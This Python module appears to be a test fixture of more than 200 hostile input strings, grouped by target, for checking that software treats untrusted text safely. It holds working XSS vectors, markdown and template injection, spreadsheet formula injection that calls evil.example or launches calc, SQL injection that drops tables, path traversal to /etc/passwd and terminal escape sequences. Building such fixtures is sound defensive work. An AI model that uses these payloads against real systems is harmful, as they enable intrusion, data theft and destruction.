"""Hostile text, active wherever it is not treated as text: more than 200 pieces, by target."""

from itertools import product

__all__ = ["PAYLOADS", "SAMPLE"]

_CALLS = ("window.__hit=1", "parent.__hit=1", "alert`1`")
_EVENTS = ("onload", "onerror", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onbegin")
_ACTIVE = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠")
_FORMULAS = (
    "1+1",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example","x")',
    'WEBSERVICE("http://evil")',
)

HTML = [
    *(f"<script>{call}</script>" for call in _CALLS),
    *(
        f"<{tag} {event}={call}>"
        for (tag, event), call in product(
            (("img src=x", "onerror"), ("svg", "onload"), ("body", "onload"), ("details open", "ontoggle")), _CALLS
        )
    ),
    *(f'" {event}="window.__hit=1' for event in _EVENTS),
    *(f"' {event}='window.__hit=1" for event in _EVENTS),
    "<iframe srcdoc='<script>parent.__hit=1</script>'></iframe>",
    "<object data='javascript:window.__hit=1'></object>",
    "<a href='javascript:window.__hit=1'>click</a>",
    "<a href=' javascript:window.__hit=1'>click</a>",
    "<a href='&#106;avascript:window.__hit=1'>click</a>",
    "<form action='https://evil.example'><input type=submit></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<img src=https://evil.example/pixel.png>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__hit=1>",
    "<svg><animate onbegin=window.__hit=1 attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:window.__hit=1'><text>x</text></a></svg>",
    "<template><script>window.__hit=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.__hit=1>'>",
    "</td></tr></table><script>window.__hit=1</script>",
    "</pre></details><script>window.__hit=1</script>",
    "</script><script>window.__hit=1</script>",
    "</style><script>window.__hit=1</script>",
    "</title><script>window.__hit=1</script>",
    "--><script>window.__hit=1</script><!--",
    "]]><script>window.__hit=1</script>",
    "<scr<script>ipt>window.__hit=1</scr</script>ipt>",
    "&lt;script&gt;window.__hit=1&lt;/script&gt;",
    "&#60;script&#62;window.__hit=1&#60;/script&#62;",
    "<b>bold</b><i>italic</i><u>under</u>",
    "<r><t>rich</t></r>",
    "\ufeff<script>window.__hit=1</script>",
    "<ſcript>window.__hit=1</ſcript>",
]
MARKDOWN = [
    "[click](javascript:window.__hit=1)",
    "![x](https://evil.example/pixel.png)",
    "![x](x'onerror='window.__hit=1)",
    "[x]: https://evil.example 'x'",
    "<https://evil.example>",
    "# heading\n\n- item",
    "```html\n<script>window.__hit=1</script>\n```",
    "| a | b |\n|---|---|\n| <script>window.__hit=1</script> |",
    "$\\href{javascript:window.__hit=1}{x}$",
    "$$\\unicode{<script>window.__hit=1</script>}$$",
    "\\(\\input{/etc/passwd}\\)",
]
TEMPLATES = [
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% include '/etc/passwd' %}",
    "{{constructor.constructor('window.__hit=1')()}}",
    "%{x}",
    "%{customdata[0]}",
    "%{text}<extra>x</extra>",
    "{0.__class__}",
    "{audit.settings.jobnimbus_token}",
    "%(name)s %s %d %n",
    "$(touch /tmp/hit)",
    "`touch /tmp/hit`",
    "[red]x[/red][link=https://evil.example]y[/link]",
    ":bomb: [/] [bold",
]
SPREADSHEET = [*(f"{mark}{formula}" for mark, formula in product(_ACTIVE, _FORMULAS))]
CSV = ['a,b"c', '"', '""', "a\nb", "a\r\nb", "a;b", "'=1+1", '",=1+1,"', "\x0b=1+1", " =1+1", "\u00a0=1+1"]
SQL = [
    "'; drop table nrb; --",
    '"; drop table nrb; --',
    "' or '1'='1",
    "') union select body from raw.nrb_body --",
    "$1 ? $name :x",
    "/* */ -- ;",
    "'; copy nrb to '/tmp/hit.csv'; --",
    "'||(select 1)||'",
    "\\'; attach '/tmp/hit.duckdb'",
    "%",
    "_",
]
PATHS = [
    "../../../../etc/passwd",
    "/etc/passwd",
    "..\\..\\windows\\win.ini",
    "C:\\con",
    "file:///etc/passwd",
    "https://evil.example/?q=1#x",
    "//evil.example",
    "%2e%2e%2f",
    "a/b?c=d&e=f#g",
    "nul\u2024txt",
    "~root",
    "-rf /",
    "--help",
]
TERMINAL = [
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;aGl0\x07",
    "\x1b[2J\x1b[H",
    "\x1b[?1049h",
    "\x1bP+q544e\x1b\\",
    "\x1bc",
    "\x9b31m",
    "\x9d0;title\x9c",
    "\x07\x08\x08\x08",
    "a\rb",
    "a\x0cb",
    "a\x1b[1Ab",
    "a\x00b",
    "\x7f\x7f",
]
UNICODE = [
    "\u202egnp.exe",
    "\u2066x\u2069",
    "\u200bzero\u200cwidth\u200d",
    "\ufeffmark",
    "\u2028line\u2029paragraph",
    "\u00adsoft",
    "e\u0301" * 5,
    "Z" + "\u0321\u0310" * 40,
    "\U0001f4a3",
    "\ud83d\udca3".encode("utf-16", "surrogatepass").decode("utf-16"),
    "\U000e0041\U000e0042",
    "рaypal",
    "İı",
    "ﬁ",
    "\ufffd\uffff",
]
LONG = ["A" * 40_000, "<" * 5_000, "=" * 5_000, "\u202e" * 500, "x " * 9_000]

PAYLOADS = [*HTML, *MARKDOWN, *TEMPLATES, *SPREADSHEET, *CSV, *SQL, *PATHS, *TERMINAL, *UNICODE, *LONG]
SAMPLE = [
    each
    for kind in (HTML, MARKDOWN, TEMPLATES, SPREADSHEET, CSV, SQL, PATHS, TERMINAL, UNICODE, LONG)
    for each in kind[::9]
]
